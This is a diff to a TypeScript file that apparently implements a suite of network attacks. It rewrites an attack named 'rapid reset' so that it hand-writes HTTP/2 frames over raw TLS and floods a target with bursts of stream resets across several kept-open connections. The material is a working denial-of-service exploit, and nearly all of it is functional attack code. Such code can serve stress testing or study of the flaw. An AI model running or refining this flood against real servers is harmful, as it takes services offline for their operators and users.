@@ -5,6 +5,7 @@
 import { connect as connectHttp2 } from "node:http2";
 import { Agent, type RequestOptions, request } from "node:https";
 import { connect as connectTls, type TLSSocket } from "node:tls";
+import { opening, resets } from "./reset-frames.ts";
 
 export interface Target {
   readonly url: string;
@@ -157,26 +158,26 @@ const everyFiveSeconds = (socket: TLSSocket, signal: AbortSignal): void => {
 const rapidReset: Attack = {
   name: "rapid reset",
   async run(target, signal) {
+    const { hostname, port } = new URL(target.url);
     await keep(4, signal, () => {
       const { promise, resolve } = Promise.withResolvers<void>();
-      const session = connectHttp2(target.url, { ...target });
-      const end = (): void => {
-        session.destroy();
-        resolve();
-      };
-      session.on("error", end);
-      session.once("close", end);
-      session.once("goaway", end);
-      signal.addEventListener("abort", end, { once: true });
+      const socket = connectTls({ host: hostname, port: Number(port), ...target, ALPNProtocols: ["h2"] });
+      socket.on("error", () => socket.destroy());
+      socket.once("close", () => resolve());
+      signal.addEventListener("abort", () => socket.destroy(), { once: true });
+      socket.resume();
+      let stream = 1;
       const burst = (): void => {
-        for (let index = 0; index < 100 && !session.destroyed; index++) {
-          const stream = session.request({ ":path": pods, ":method": "GET" });
-          stream.on("error", () => undefined);
-          stream.close(8);
-        }
-        if (!session.destroyed) setImmediate(burst);
+        if (socket.destroyed || !socket.writable) return;
+        socket.write(resets(stream, 100), () => setImmediate(burst));
+        stream += 200;
       };
-      session.once("connect", burst);
+      socket.once("secureConnect", () => {
+        socket.write(opening);
+        burst();
+      });
+      // A server that said goodbye may wait for the client to go.
+      socket.once("end", () => socket.destroy());
       return promise;
     });
   },
